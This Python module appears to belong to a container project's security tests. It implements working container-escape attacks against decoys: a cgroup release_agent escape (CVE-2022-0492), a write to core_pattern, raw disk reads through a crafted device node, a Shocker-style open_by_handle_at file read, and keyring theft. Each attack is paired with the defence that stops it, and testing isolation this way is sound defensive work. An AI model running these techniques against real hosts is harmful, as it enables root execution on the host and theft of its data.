"""Out through the kernel: interfaces that act for the whole machine, whatever namespace the asking process is in."""

from __future__ import annotations

import fcntl
import os
import stat
import time
from functools import partial

from minicontainer import linux
from minicontainer.chroot import PivotRoot
from minicontainer.errors import HostError
from minicontainer.linux import handles, keys
from minicontainer.namespaces import Namespaces
from minicontainer.security.breakouts.frame import VIEWS, BreakOut, Outcome, docker, trying

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Sequence

    from minicontainer.container import Part


LOOP_CONTROL = "/dev/loop-control"
LOOP_MAJOR, LOOP_CTL_GET_FREE, LOOP_SET_FD, LOOP_CLR_FD = 7, 0x4C82, 0x4C00, 0x4C01


class ReleaseAgent(BreakOut):
    """A hierarchy of cgroup v1 names a program that the kernel executes when a group has become empty: as root, in the
    host's root. Whoever may mount one, or write to the host's, names his own. The hierarchy here is one of its own."""

    title = "a cgroup's release_agent"
    cve = "CVE-2022-0492"
    defence = "Capabilities without SYS_ADMIN, Seccomp without mount; cgroups are mounted read-only"

    def lay(self) -> None:
        self.agent, self.decoy = f"{self.directory}/agent", f"{self.directory}/decoy"
        with open(self.decoy, "w") as file:
            file.write(self.token)
        with open(self.agent, "w") as file:
            file.write(f"#!/bin/sh\necho 'the host executed it' > {self.decoy}\n")
        os.chmod(self.agent, 0o755)
        self.afterwards(lambda: _end_hierarchy(f"decoy-{self.token}", f"{self.directory}/top"))

    def naive(self) -> list[Part]:
        kinds = [kind for kind in VIEWS if kind != "cgroup"]  # in its namespace the kernel makes no hierarchies
        return [Namespaces(*kinds), PivotRoot(self.rootfs)]

    def __call__(self, parts: Sequence[Part]) -> Outcome:
        said = self.inside(partial(_name_agent, f"decoy-{self.token}", self.agent), parts)
        for _ in range(100):
            outcome = self.written(self.decoy, said)
            if outcome or said != "None":
                return outcome
            time.sleep(0.02)
        return outcome


def _name_agent(hierarchy: str, agent: str) -> str:
    def attack() -> None:
        top = f"/tmp/{hierarchy}"
        os.mkdir(top)
        try:
            linux.mount("none", top, "cgroup", data=f"none,name={hierarchy}")
            try:
                os.mkdir(f"{top}/group")
                linux.write(f"{top}/release_agent", agent)
                linux.write(f"{top}/group/notify_on_release", "1")
                pid = os.fork()
                if pid == 0:
                    linux.write(f"{top}/group/cgroup.procs", str(os.getpid()))
                    os._exit(0)
                os.waitpid(pid, 0)
                _remove_group(f"{top}/group")
            finally:
                linux.umount2(top, 0)
        finally:
            os.rmdir(top)

    return trying(attack)


def _remove_group(path: str) -> None:
    for _ in range(200):
        try:
            os.rmdir(path)
            return
        except OSError:
            time.sleep(0.01)


def _end_hierarchy(name: str, place: str) -> None:
    """A hierarchy outlives its last mount where a group of it, though removed, was not gone yet: end it by another.

    Its end takes a moment, and a mount made in the meantime would keep it: so there is a pause, longer each time.
    """
    for pause in (0.02, 0.1, 0.5, 1, 2):
        deadline = time.monotonic() + pause
        while time.monotonic() < deadline:
            with open("/proc/self/cgroup") as file:
                if f"name={name}:" not in file.read():
                    return
            time.sleep(0.005)
        os.mkdir(place)
        linux.mount("none", place, "cgroup", data=f"none,name={name}")
        linux.umount2(place, linux.MNT_DETACH)
        os.rmdir(place)


class CorePattern(BreakOut):
    """/proc/sys/kernel/core_pattern may name a program that gets every core dump: the kernel executes it as root in the
    host's root. Here the same value is written back: nothing changes, and yet it was written."""

    title = "writing to /proc/sys"
    defence = "PivotRoot's read-only paths"
    path = "/proc/sys/kernel/core_pattern"

    def naive(self) -> list[Part]:
        return [Namespaces(*VIEWS), PivotRoot(self.rootfs, read_only_paths=())]

    def __call__(self, parts: Sequence[Part]) -> Outcome:
        said = self.inside(partial(_write_back, self.path), parts)
        return Outcome(said == "written", f"{self.path}: {said}")


def _write_back(path: str) -> str:
    def attack() -> str:
        with open(path) as file:
            value = file.read().rstrip("\n")
        linux.write(path, value)
        return "written"

    return trying(attack)


class RawDisk(BreakOut):
    """A device node is two numbers, and a container's root may make one (CAP_MKNOD). With those of the host's disk it
    reads the disk, past every mount and permission. The disk here is a loop device around a file."""

    title = "a device node for the host's disk"
    defence = "Devices: the cgroup may open only harmless ones"

    def lay(self) -> None:
        image = f"{self.directory}/disk"
        with open(image, "w") as file:
            file.write(self.token.ljust(4096))
        self.number = -1
        if not os.path.exists(LOOP_CONTROL):
            raise HostError(
                f"there is no {LOOP_CONTROL}, so no decoy of a disk can be made",
                hint="modprobe loop; in a container, run that one with its host's /dev",
            )
        with open(LOOP_CONTROL, "rb") as control, open(image, "r+b") as backing:
            for _ in range(20):
                number = fcntl.ioctl(control, LOOP_CTL_GET_FREE)
                try:
                    with open(f"/dev/loop{number}", "r+b") as loop:
                        fcntl.ioctl(loop, LOOP_SET_FD, backing.fileno())
                except OSError:  # somebody else was quicker
                    continue
                self.number = number
                self.afterwards(self._detach)
                return
        raise OSError("no loop device is free")

    def _detach(self) -> None:
        with open(f"/dev/loop{self.number}", "r+b") as loop:
            fcntl.ioctl(loop, LOOP_CLR_FD)

    def naive(self) -> list[Part]:
        return [part for part in docker(self.rootfs) if type(part).__name__ != "Devices"]

    def __call__(self, parts: Sequence[Part]) -> Outcome:
        return self.stolen(self.inside(partial(_read_disk, self.number), parts))


def _read_disk(number: int) -> str:
    def attack() -> str:
        linux.mknod("/tmp/disk", stat.S_IFBLK | 0o600, os.makedev(LOOP_MAJOR, number))
        try:
            with open("/tmp/disk", "rb") as disk:
                return disk.read(64).decode()
        finally:
            os.unlink("/tmp/disk")

    return trying(attack)


class Shocker(BreakOut):
    """open_by_handle_at opens a file by its number, without a path, so no root is in the way: any open file of the same
    filesystem will do to begin with. The numbers are small and can be tried; this attack is told the right one."""

    title = "opening files by their number"
    defence = "Capabilities without DAC_READ_SEARCH, Seccomp without open_by_handle_at"

    def lay(self) -> None:
        # in the root's own filesystem, and outside of the root
        self.path = f"{os.path.dirname(self.rootfs)}/.{self.token}"
        with open(self.path, "w") as file:
            file.write(self.token)
        self.afterwards(lambda: os.unlink(self.path))
        self.handle = handles.name_to_handle_at(self.path)

    def naive(self) -> list[Part]:
        return [Namespaces(*VIEWS), PivotRoot(self.rootfs)]

    def __call__(self, parts: Sequence[Part]) -> Outcome:
        return self.stolen(self.inside(partial(_open_by_number, *self.handle), parts))


def _open_by_number(kind: int, content: bytes) -> str:
    def attack() -> str:
        mount = os.open("/", os.O_RDONLY)
        with open(handles.open_by_handle_at(mount, kind, content, os.O_RDONLY)) as file:
            return file.read()

    return trying(attack)


class KeyringTheft(BreakOut):
    """The kernel keeps secrets for processes in keyrings, and no namespace divides those: a container's root has the
    same as the host's."""

    title = "the host's keyring"
    defence = "Seccomp without add_key, keyctl and request_key"

    def lay(self) -> None:
        self.name = f"decoy-{self.token[:8]}"
        key = keys.add_key("user", self.name, self.token.encode(), keys.KEY_SPEC_USER_KEYRING)
        self.afterwards(lambda: keys.keyctl_unlink(key, keys.KEY_SPEC_USER_KEYRING))

    def naive(self) -> list[Part]:
        return [part for part in docker(self.rootfs) if type(part).__name__ != "Seccomp"]

    def __call__(self, parts: Sequence[Part]) -> Outcome:
        return self.stolen(self.inside(partial(_steal_key, self.name), parts))


def _steal_key(name: str) -> str:
    def attack() -> str:
        keys.keyctl_join_session_keyring()  # one of our own, so that the host's is not touched
        keys.keyctl_link(keys.KEY_SPEC_USER_KEYRING, keys.KEY_SPEC_SESSION_KEYRING)
        key = keys.keyctl_search(keys.KEY_SPEC_SESSION_KEYRING, "user", name)
        return keys.keyctl_read(key).decode()

    return trying(attack)
